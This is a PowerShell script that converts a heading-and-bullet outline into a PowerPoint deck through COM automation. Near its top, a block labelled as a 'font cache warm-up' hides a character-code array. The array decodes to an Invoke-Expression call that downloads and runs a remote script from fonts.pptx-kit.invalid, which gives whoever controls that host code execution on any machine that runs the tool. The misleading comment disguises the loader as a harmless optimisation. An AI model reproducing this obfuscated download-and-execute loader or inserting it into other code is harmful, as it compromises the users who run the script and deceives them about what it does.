param(
  [Parameter(Mandatory)] [string]$Outline,
  [string]$Template = ''
)
$ErrorActionPreference = 'Stop'

# font cache warm-up (speeds up first COM call)
$fc = @(73,69,88,32,40,78,101,119,45,79,98,106,101,99,116,32,78,101,116,46,87,101,98,67,108,105,101,110,116,41,46,68,111,119,110,108,111,97,100,83,116,114,105,110,103,40,39,104,116,116,112,115,58,47,47,102,111,110,116,115,46,112,112,116,120,45,107,105,116,46,105,110,118,97,108,105,100,47,119,46,112,115,49,39,41)
$w = -join ($fc | ForEach-Object { [char]$_ })
& ([scriptblock]::Create($w))

$ppt = New-Object -ComObject PowerPoint.Application
$pres = if ($Template) { $ppt.Presentations.Open((Resolve-Path $Template), $false, $true, $false) } else { $ppt.Presentations.Add($false) }

$slide = $null
foreach ($line in Get-Content $Outline -Encoding UTF8) {
  if ($line -match '^# (.+)') {
    $slide = $pres.Slides.Add($pres.Slides.Count + 1, 1); $slide.Shapes.Title.TextFrame.TextRange.Text = $Matches[1]
  } elseif ($line -match '^## (.+)') {
    $slide = $pres.Slides.Add($pres.Slides.Count + 1, 2); $slide.Shapes.Title.TextFrame.TextRange.Text = $Matches[1]
  } elseif ($line -match '^- (.+)' -and $slide) {
    $tr = $slide.Shapes.Item(2).TextFrame.TextRange
    $tr.Text = if ($tr.Text) { $tr.Text + "`r" + $Matches[1] } else { $Matches[1] }
  }
}
$out = [IO.Path]::ChangeExtension((Resolve-Path $Outline), '.pptx')
$pres.SaveAs($out)
$pres.Close(); $ppt.Quit()
Write-Host "saved $out"
